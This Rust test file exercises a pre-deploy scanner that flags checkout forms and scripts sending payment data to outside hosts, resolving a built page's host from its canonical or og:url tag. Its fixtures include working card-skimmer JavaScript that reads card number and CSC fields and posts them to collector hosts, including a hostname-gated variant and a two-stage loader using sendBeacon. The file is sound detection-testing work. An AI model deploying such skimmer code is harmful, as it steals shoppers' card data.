//! A built site read from disk has no address of its own, yet its pages say where they are
//! published (`<link rel="canonical">`, `og:url`). WooCommerce, Shopify, PrestaShop and
//! EC-CUBE checkouts post to absolute URLs on their own host; judged against no host at all,
//! every one of them was `form-action-outside` (critical) in the pre-deploy CI scan.

mod common;
use common::{html, scan_json, serve, write_file};
use serde_json::Value;

fn checkout(head: &str) -> String {
    format!(
        r#"<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Checkout – Pantry Goods</title>{head}</head>
<body class="woocommerce-checkout"><form name="checkout" method="post" class="checkout woocommerce-checkout" action="https://www.pantry-goods.example/checkout/">
<p class="form-row"><label for="billing_email">Email</label><input type="email" id="billing_email" name="billing_email"></p>
<fieldset id="wc-authorize-net-cim-credit-card-form"><input id="wc-authorize-net-cim-credit-card-account-number" name="wc-authorize-net-cim-credit-card-account-number" autocomplete="cc-number">
<input id="wc-authorize-net-cim-credit-card-csc" name="wc-authorize-net-cim-credit-card-csc" autocomplete="cc-csc"></fieldset>
<button type="submit" id="place_order">Place order</button></form></body></html>"#
    )
}

fn form_action_findings(report: &Value) -> Vec<String> {
    report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["rule"] == "form-action-outside")
        .map(|f| f["hosts"].to_string())
        .collect()
}

fn scan_dir(page: &str) -> (i32, Value) {
    let dir = tempfile::tempdir().unwrap();
    write_file(dir.path(), "checkout/index.html", page);
    let (code, report, stderr) = scan_json(&["--no-cache", dir.path().to_str().unwrap()]);
    assert!(matches!(code, 0 | 1), "exit {code}: {stderr}");
    (code, report)
}

#[test]
fn a_built_page_declaring_its_address_posts_to_its_own_host() {
    for head in [
        r#"<link rel="canonical" href="https://www.pantry-goods.example/checkout/">"#,
        r#"<meta property="og:url" content="https://www.pantry-goods.example/checkout/">"#,
        // Same site, another host of it: first party by registrable domain.
        r#"<link rel="canonical" href="https://pantry-goods.example/checkout/">"#,
    ] {
        let (code, report) = scan_dir(&checkout(head));
        assert_eq!(
            form_action_findings(&report),
            Vec::<String>::new(),
            "{head}"
        );
        assert_eq!(code, 0, "{head}");
    }
}

#[test]
fn without_a_declared_address_or_with_another_one_the_post_is_outside() {
    for head in [
        "",
        r#"<link rel="canonical" href="https://www.other-shop.example/checkout/">"#,
        // An address that is no published host name is not taken.
        r#"<link rel="canonical" href="https://192.0.2.7/checkout/">"#,
        r#"<link rel="canonical" href="/checkout/">"#,
    ] {
        let (code, report) = scan_dir(&checkout(head));
        assert_eq!(
            form_action_findings(&report),
            vec![r#"["www.pantry-goods.example"]"#.to_string()],
            "{head}"
        );
        assert_eq!(code, 1, "{head}");
    }
}

#[test]
fn a_served_page_is_judged_by_its_own_address_whatever_it_declares() {
    // A page served from www.other-shop.example that claims to be the pantry's: its own URL
    // decides, so the post to the pantry's host is outside.
    let page =
        checkout(r#"<link rel="canonical" href="https://www.pantry-goods.example/checkout/">"#);
    let server = serve(vec![("/checkout/", html(&page))]);
    let resolve = server.resolve("www.other-shop.example");
    let url = server.url("www.other-shop.example", "/checkout/");
    let (code, report, stderr) =
        scan_json(&["--no-cache", "--depth", "0", "--resolve", &resolve, &url]);
    assert_eq!(code, 1, "{stderr}");
    assert_eq!(
        form_action_findings(&report),
        vec![r#"["www.pantry-goods.example"]"#.to_string()]
    );
}

/// A card vault on the shop's own subdomain, named from the page's address at run time
/// (`'https://pay.' + location.hostname`): only the stub page resolves it, and it must take
/// the address the built page declares (or, for a lone script, stand for the shop), not
/// call the vault an outside host. The same construction around an attacker's domain stays
/// outside.
fn vault_script(host_expr: &str) -> String {
    format!(
        r#"(function () {{
  var VAULT = {host_expr};
  document.getElementById('place_order').addEventListener('click', function () {{
    var card = {{ number: document.getElementById('wc-authorize-net-cim-credit-card-account-number').value,
                 csc: document.getElementById('wc-authorize-net-cim-credit-card-csc').value }};
    fetch(VAULT, {{ method: 'POST', credentials: 'include', body: JSON.stringify(card) }});
  }});
}})();"#
    )
}

const OWN_VAULT: &str =
    "'https://pay.' + location.hostname.replace(/^www\\./, '') + '/vault/v1/cards'";
const OUTSIDE_VAULT: &str =
    "'https://pay.' + location.hostname.replace(/^www\\./, '') + '.card-sync.example/v1/cards'";

fn strong(report: &Value) -> Vec<String> {
    report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| matches!(f["severity"].as_str(), Some("high" | "critical")))
        .map(|f| format!("{} {}", f["rule"], f["hosts"]))
        .collect()
}

#[test]
fn the_shops_own_subdomain_built_from_location_is_first_party() {
    let head = r#"<link rel="canonical" href="https://www.pantry-goods.example/checkout/">"#;
    let page = checkout(head).replace("</body>", r#"<script src="/js/vault.js"></script></body>"#);
    for (expr, outside) in [(OWN_VAULT, false), (OUTSIDE_VAULT, true)] {
        let dir = tempfile::tempdir().unwrap();
        write_file(dir.path(), "checkout/index.html", &page);
        write_file(dir.path(), "js/vault.js", vault_script(expr));
        let (code, report, stderr) = scan_json(&["--no-cache", dir.path().to_str().unwrap()]);
        assert!(matches!(code, 0 | 1), "exit {code}: {stderr}");
        let s = strong(&report);
        assert_eq!(!s.is_empty(), outside, "{expr}: {s:?}");
        if outside {
            assert!(s.iter().any(|f| f.contains("card-sync.example")), "{s:?}");
        }
        // The same file as a lone target: the stub's shop stands for the shop.
        let lone = dir.path().join("js/vault.js");
        let (_, report, _) = scan_json(&["--no-cache", lone.to_str().unwrap()]);
        assert_eq!(
            !strong(&report).is_empty(),
            outside,
            "lone {expr}: {report:#}"
        );
    }
}

/// A skimmer that runs only on the shop it was planted on (a hostname check) and names its
/// collector from that hostname: the stub page must be at the address the built page
/// declares, or the check fails there and nothing is sent.
#[test]
fn the_stub_page_takes_the_declared_address() {
    let head = r#"<link rel="canonical" href="https://www.pantry-goods.example/checkout/">"#;
    let page = checkout(head).replace("</body>", r#"<script src="/js/theme.js"></script></body>"#);
    let gated = vault_script(
        "(location.hostname === 'www.pantry-goods.example' ? 'https://' + location.hostname.split('.')[1] + '-cdn.example/c' : '/noop')",
    );
    let dir = tempfile::tempdir().unwrap();
    write_file(dir.path(), "checkout/index.html", &page);
    write_file(dir.path(), "js/theme.js", gated);
    let (code, report, stderr) = scan_json(&["--no-cache", dir.path().to_str().unwrap()]);
    assert_eq!(code, 1, "{stderr}\n{report:#}");
    let s = strong(&report);
    assert!(
        s.iter().any(|f| f.contains("pantry-goods-cdn.example")),
        "{s:?}"
    );
}

/// A built site's script that adds another of the site's own files at run time (a loader
/// and its stage 2, both shipped in the build): the stage is read from the site's root and
/// analysed, as it would be fetched from the shop's server. A stage missing from the build
/// is an error entry (exit 3), never a clean report.
#[test]
fn a_stage_a_built_page_loads_from_its_own_files_is_analysed() {
    let dir = tempfile::tempdir().unwrap();
    let page = checkout(
        r#"<link rel="canonical" href="https://www.pantry-goods.example/checkout/"><script src="/assets/js/reviews-loader.js" defer></script>"#,
    );
    write_file(dir.path(), "checkout/index.html", &page);
    // With a cache-buster, the loader's URL is known up to its query: the file is named.
    write_file(
        dir.path(),
        "assets/js/reviews-loader.js",
        "(function () { var s = document.createElement('script'); s.async = true;\n\
         s.src = '/assets/js/reviews-' + 'widget.js?v=' + Date.now(); document.head.appendChild(s); })();",
    );
    let stage = "(function () {\n\
      document.getElementById('place_order').addEventListener('click', function () {\n\
        var n = document.getElementById('wc-authorize-net-cim-credit-card-account-number').value;\n\
        var c = document.getElementById('wc-authorize-net-cim-credit-card-csc').value;\n\
        navigator.sendBeacon('https://reviews-pantrycdn.com/r', JSON.stringify({ n: n, c: c }));\n\
      });\n\
    })();";
    write_file(dir.path(), "assets/js/reviews-widget.js", stage);
    let (code, report, stderr) = scan_json(&["--no-cache", dir.path().to_str().unwrap()]);
    assert_eq!(code, 1, "{stderr}\n{report:#}");
    let exfil: Vec<&Value> = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["rule"] == "payment-data-exfiltration")
        .collect();
    assert_eq!(exfil.len(), 1, "{report:#}");
    assert_eq!(exfil[0]["hosts"][0], "reviews-pantrycdn.com");
    assert!(
        exfil[0]["script"]
            .as_str()
            .unwrap()
            .ends_with("assets/js/reviews-widget.js"),
        "{}",
        exfil[0]["script"]
    );

    std::fs::remove_file(dir.path().join("assets/js/reviews-widget.js")).unwrap();
    let (code, report, _) = scan_json(&["--no-cache", dir.path().to_str().unwrap()]);
    assert_eq!(code, 3, "{report:#}");
    assert_eq!(report["complete"], false);
    assert!(
        report["errors"].to_string().contains("reviews-widget.js"),
        "{report:#}"
    );
}
